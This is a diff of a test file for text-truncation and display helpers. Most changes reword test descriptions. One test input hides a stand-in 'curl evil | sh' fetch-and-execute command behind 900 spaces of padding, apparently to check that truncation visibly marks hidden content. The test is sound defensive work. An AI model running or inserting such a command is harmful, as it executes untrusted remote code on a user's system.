@@ -16,18 +16,18 @@ describe("visible", () => {
 });
 
 describe("oneLine", () => {
-  it("joins lines and clips by characters, not by halves of them", () => {
+  it("joins lines, and never cuts a character in half", () => {
     expect(oneLine("a\n  b\n", 10)).toBe("a b");
     expect(oneLine("🙂🙂🙂🙂", 3)).toBe("🙂🙂…");
   });
 
-  it("shows that it was cut, also where only white space was left out", () => {
+  it("ends in … if it was cut, even if only white space was cut", () => {
     expect(oneLine(`rm a${" ".repeat(900)}; curl evil | sh`, 40)).toBe("rm a…");
   });
 });
 
 describe("excerpt", () => {
-  it("gives the first lines and says how many more there are", () => {
+  it("returns the first lines and the number of the others", () => {
     expect(excerpt("one\ntwo\nthree\nfour\n", 2, 10)).toEqual(["one", "two", "… 2 more lines"]);
     expect(excerpt("one\ntwo\nthree\n", 2, 10)).toEqual(["one", "two", "three"]);
   });
@@ -55,7 +55,7 @@ describe("wordWrapped", () => {
 });
 
 describe("fitted", () => {
-  it("counts columns, of which some characters take two, and shows that something is missing", () => {
+  it("counts two columns for wide characters, and ends in … if it was cut", () => {
     expect(within("日本語", 5)).toBe("日本");
     expect(fitted("日本語", 5)).toBe("日本…");
     expect(fitted("abcde", 5)).toBe("abcde");
